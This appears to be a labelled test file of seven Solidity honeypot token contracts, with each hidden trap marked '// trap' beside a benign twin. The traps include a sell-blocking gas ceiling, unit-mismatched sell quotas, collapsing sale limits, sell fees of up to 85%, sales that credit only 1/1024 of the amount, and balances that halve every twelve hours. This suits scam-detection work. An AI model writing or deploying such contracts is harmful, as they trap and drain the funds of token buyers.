// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.17;

interface IUniswapV2Factory {
    function createPair(address a, address b) external returns (address);
}

interface IUniswapV2Pair {
    function sync() external;
}

abstract contract Erc {
    IUniswapV2Factory internal constant FACTORY = IUniswapV2Factory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f);
    address internal constant WETH = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;

    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) internal _held;
    mapping(address => mapping(address => uint256)) public allowance;
    address public owner;
    address public pair;
    mapping(address => bool) internal _free;

    error NotOwner();
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed from, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed from, address indexed to);

    constructor(string memory n, string memory s, uint256 supply) {
        name = n;
        symbol = s;
        owner = msg.sender;
        _free[msg.sender] = true;
        pair = FACTORY.createPair(address(this), WETH);
        totalSupply = supply * 1e18;
        _held[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner();
        _;
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function balanceOf(address who) public view virtual returns (uint256) {
        return _held[who];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = allowance[from][msg.sender];
        if (left != type(uint256).max) allowance[from][msg.sender] = left - value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal virtual;

    function _shift(address from, address to, uint256 value) internal {
        _held[from] -= value;
        _held[to] += value;
        emit Transfer(from, to, value);
    }
}

/// "No front-running: the price of gas is bounded." By two hundred of what?
contract ShieldInu is Erc("Shield Inu", "SHINU", 1_000_000_000) {
    struct Guard {
        uint64 ceiling;
        uint64 since;
        uint96 spare;
        bool on;
    }
    Guard private _guard;
    error GasPriceTooHigh();

    constructor() {
        _guard = Guard(200 * 1e3, uint64(block.timestamp), 0, true);
    }

    function gasPriceLimitGwei() external pure returns (uint256) {
        return 200;
    }

    function antiFrontRunSince() external view returns (uint64) {
        return _guard.since;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        Guard memory guard = _guard;
        if (guard.on && to == pair && !_free[from]) {
            if (tx.gasprice > guard.ceiling) revert GasPriceTooHigh(); // trap
        }
        _shift(from, to, value);
    }
}

/// "What was bought may be sold, and no more." Counted in tokens, spent in the smallest unit.
contract FairExit is Erc("Fair Exit", "FEXIT", 1_000_000_000) {
    uint256 private constant UNIT = 1e18;
    mapping(address => uint256) private _quota;

    function sellQuota(address who) external view returns (uint256) {
        return _quota[who] * UNIT; // trap
        // twin: return _quota[who];
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to != pair && !_free[to]) {
            _quota[to] += value / UNIT; // trap
            // twin: _quota[to] += value;
        }
        if (from != pair && !_free[from]) {
            uint256 left = _quota[from];
            if (to == pair) require(left >= value, "FairExit: quota used up");
            _quota[from] = left > value ? left - value : 0;
        }
        _shift(from, to, value);
    }
}

/// A bound for sales, against dumps; each sale leaves an eighth of it.
contract CalmSea is Erc("Calm Sea", "CALM", 420_000_000) {
    struct Limits {
        uint128 perSale;
        uint64 sales;
        uint64 opened;
    }
    Limits public limits;
    error AntiDump(uint256 bound);

    constructor() {
        limits.perSale = uint128(totalSupply / 100);
    }

    function openTrading() external onlyOwner {
        require(limits.opened == 0, "open");
        limits.opened = uint64(block.timestamp);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (!_free[from] && !_free[to]) require(limits.opened != 0, "not open");
        if (to == pair && !_free[from]) {
            if (value > limits.perSale) revert AntiDump(limits.perSale);
            limits.sales++;
            limits.perSale >>= 3; // trap
        }
        _shift(from, to, value);
    }
}

/// A thousandth of each sale is burnt, and the pool is told; the sooner or the later.
contract EmberLake is Erc("Ember Lake", "ELAKE", 77_000_000) {
    uint256 public burnt;

    function _transfer(address from, address to, uint256 value) internal override {
        if (to != pair || _free[from]) {
            _shift(from, to, value);
            return;
        }
        uint256 ash = value / 1000;
        _held[from] -= ash;
        totalSupply -= ash;
        burnt += ash;
        emit Transfer(from, address(0), ash);
        // twin: IUniswapV2Pair(pair).sync();
        _shift(from, to, value - ash);
        IUniswapV2Pair(pair).sync(); // trap
    }
}

/// "Whales pay for the small fish." Everybody who has bought for more than a cent or two is a whale.
contract LittleFish is Erc("Little Fish", "LFISH", 500_000_000) {
    bytes private constant RATES = hex"020f55"; // trap
    // twin: bytes private constant RATES = hex"020304";
    address public immutable pondWallet = msg.sender;

    function rateFor(uint256 value) public view returns (uint256) {
        uint256 share = (value * 1_000_000) / totalSupply;
        uint256 tier = share < 20 ? 0 : share < 100 ? 1 : 2;
        return uint8(RATES[tier]);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee;
        if (to == pair && !_free[from]) {
            fee = (value * rateFor(value)) / 100;
            _shift(from, pondWallet, fee);
        }
        _shift(from, to, value - fee);
    }
}

/// The event tells of everything, the pool receives a thousandth.
contract PaperBoat is Erc("Paper Boat", "PBOAT", 90_000_000) {
    uint256 private immutable _shiftBy = 10;

    function _transfer(address from, address to, uint256 value) internal override {
        require(to != address(0), "zero");
        uint256 paid = value;
        if (to == pair && !_free[from]) paid = value >> _shiftBy; // trap
        uint256 left = _held[from];
        require(left >= value, "balance");
        mapping(address => uint256) storage held = _held;
        assembly {
            mstore(0, from)
            mstore(32, held.slot)
            sstore(keccak256(0, 64), sub(left, value))
            mstore(0, to)
            let at := keccak256(0, 64)
            sstore(at, add(sload(at), paid))
        }
        emit Transfer(from, to, value);
    }
}

/// Half of what one holds melts in twelve hours.
contract SnowCone is Erc("Snow Cone", "SCONE", 210_000_000) {
    uint256 private constant HALF = 12 hours;
    mapping(address => uint64) private _since;

    function balanceOf(address who) public view override returns (uint256) {
        uint256 raw = _held[who];
        uint256 since = _since[who];
        if (since == 0 || _free[who] || who == pair) return raw;
        // twin: return raw;
        uint256 halvings = (block.timestamp - since) / HALF; // trap
        return halvings > 250 ? 0 : raw >> halvings; // trap
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _settle(from);
        _settle(to);
        _shift(from, to, value);
    }

    function _settle(address who) private {
        uint256 now_ = balanceOf(who);
        if (now_ < _held[who]) {
            totalSupply -= _held[who] - now_;
            _held[who] = now_;
            _since[who] = uint64(block.timestamp);
        }
        if (_since[who] == 0) _since[who] = uint64(block.timestamp);
    }
}
